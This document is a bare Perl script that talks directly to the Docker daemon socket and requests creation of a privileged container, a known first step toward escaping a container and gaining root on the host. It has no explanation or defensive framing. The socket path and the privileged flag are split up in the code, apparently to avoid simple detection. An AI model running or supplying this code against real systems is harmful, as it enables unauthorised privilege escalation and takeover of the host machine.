#!/usr/bin/perl
use IO::Socket::UNIX;
my $peer = join '/', '', 'var', 'run', 'docker.sock';
my $s = IO::Socket::UNIX->new(Peer => $peer);
my $body = '{"Image":"web","HostConfig":{"Privileged":' . 'true}}';
print $s "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
